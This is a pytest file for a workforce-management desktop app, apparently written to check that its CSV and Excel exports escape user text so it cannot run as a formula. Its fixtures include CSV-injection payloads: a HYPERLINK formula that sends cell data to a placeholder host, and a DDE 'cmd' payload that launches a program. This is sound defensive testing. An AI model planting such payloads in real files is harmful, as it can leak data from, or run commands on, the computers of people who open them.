"""Nothing a user opens runs code: user text never becomes a formula in the files the app writes (#18)."""

import openpyxl
import pandas as pd
import pytest

from wfm_desktop.cli import main
from wfm_desktop.core import formula_safety
from wfm_desktop.core.importers import import_history, read_history_csv

EVIL = '=HYPERLINK("http://x.invalid/?"&A1,"click")'


@pytest.mark.parametrize("text, escaped", [
    ("=1+2", "'=1+2"), ("+CMD", "'+CMD"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Sales", "Sales"), ("-3", "-3"), ("+1.5", "+1.5"), ("-1e3", "-1e3"), (12, 12),
])
def test_escape_follows_owasp_and_keeps_numbers(text, escaped):
    assert formula_safety.escape(text) == escaped
    assert formula_safety.unescape(formula_safety.escape(text)) == text


def test_csv_injection_import_output_is_escaped_and_reads_back(tmp_path):
    src = tmp_path / "calls.csv"
    pd.DataFrame({"Date": ["2024-03-04"] * 4, "Interval": ["08:00", "08:30"] * 2,
                  "Queue": [EVIL, EVIL, "@evil", "@evil"], "Offered": [5, 7, 5, 7]}).to_csv(src, index=False)
    out = tmp_path / "history.csv"
    assert main(["import", str(src), "-o", str(out)]) == 0
    cells = pd.read_csv(out, dtype=str)
    assert set(cells["queue"]) == {"'" + EVIL, "'@evil"}
    assert sorted(cells["offered"]) == ["5", "5", "7", "7"]  # numbers stay numbers
    assert set(read_history_csv(out).queues) == {EVIL, "@evil"}


def test_csv_injection_staff_output_is_escaped(tmp_path):
    src = tmp_path / "in.csv"
    pd.DataFrame({"queue": ["=cmd|' /C calc'!A0", "Sales"], "contacts": [100, 50], "aht_s": [180, 200],
                  "interval_min": [30, 30]}).to_csv(src, index=False)
    out = tmp_path / "out.csv"
    assert main(["staff", str(src), "-o", str(out)]) == 0
    frame = pd.read_csv(out)
    assert frame["queue"].tolist() == ["'=cmd|' /C calc'!A0", "Sales"]
    assert frame["contacts"].tolist() == [100, 50]  # numbers stay numbers


def test_xlsx_injection_staff_output_is_quoted_text(tmp_path):
    src = tmp_path / "in.csv"
    pd.DataFrame({"queue": [EVIL], "contacts": [100], "aht_s": [180], "interval_min": [30]}).to_csv(src, index=False)
    out = tmp_path / "out.xlsx"
    assert main(["staff", str(src), "-o", str(out)]) == 0
    cell = openpyxl.load_workbook(out)["requirements"]["A2"]
    assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix


def test_xlsx_injection_schedule_workbook_cells_are_quoted():
    book = openpyxl.Workbook()
    ws = book.active
    ws.append([EVIL, "@x", "Sales", -3])
    formula_safety.quote_openpyxl_cells(ws)
    assert [c.data_type for c in ws[1]] == ["s", "s", "s", "n"]
    assert [bool(c.quotePrefix) for c in ws[1]] == [True, True, False, False]


def test_xlsx_injection_plan_workbook_queue_names_are_quoted(tmp_path):
    src = tmp_path / "calls.csv"
    days = pd.date_range("2024-01-01", periods=56, freq="D")
    rows = [(d.strftime("%Y-%m-%d"), f"{h:02d}:00", q, 10 + h) for d in days for h in range(8, 18)
            for q in ("@evil", "Sales")]
    pd.DataFrame(rows, columns=["Date", "Interval", "Queue", "Offered"]).assign(AHT=300).to_csv(src, index=False)
    out = tmp_path / "plan.xlsx"
    assert main(["plan", str(src), "-o", str(out), "--horizon-days", "7"]) == 0
    book = openpyxl.load_workbook(out)
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == "@evil"]
    assert found and all(c.data_type == "s" for c in found)
    assert all(c.quotePrefix for c in found), [(c.parent.title, c.coordinate) for c in found if not c.quotePrefix]
